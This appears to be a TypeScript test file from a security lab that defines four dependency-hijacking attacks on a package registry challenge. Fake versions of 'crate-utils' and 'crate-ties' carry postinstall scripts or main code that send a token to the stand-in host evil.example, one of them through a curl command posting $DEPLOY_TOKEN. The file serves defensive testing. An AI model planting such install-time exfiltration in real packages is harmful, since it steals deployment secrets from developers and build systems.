import type { Attack } from '#lab'
import { stealToken, TOKEN } from './steps.ts'

const HOST = 'evil.example'
const MAIL = `require('https').get('https://${HOST}/?' + ${TOKEN})`

const attack = (name: string, parcel: Parameters<typeof stealToken>[2]): Attack => ({
  challenge: 'twoCratesChallenge',
  name,
  run: (tools) => stealToken(tools, HOST, parcel),
})

export const attacks: Attack[] = [
  attack('a high version with an install script', {
    name: 'crate-utils',
    version: '99.0.0',
    scripts: { postinstall: MAIL },
  }),
  attack('a version in the range, whose code runs when the page is built', {
    name: 'crate-utils',
    version: '1.99.0',
    main: MAIL,
  }),
  attack('the package that a package needs', {
    name: 'crate-ties',
    version: '0.3.99',
    main: `${MAIL}; exports.tie = (lines) => lines.join('')`,
  }),
  attack('a command line instead of a program', {
    name: 'crate-utils',
    version: '2.0.0',
    scripts: { postinstall: `curl -s https://${HOST}/ -d token=$DEPLOY_TOKEN` },
  }),
]
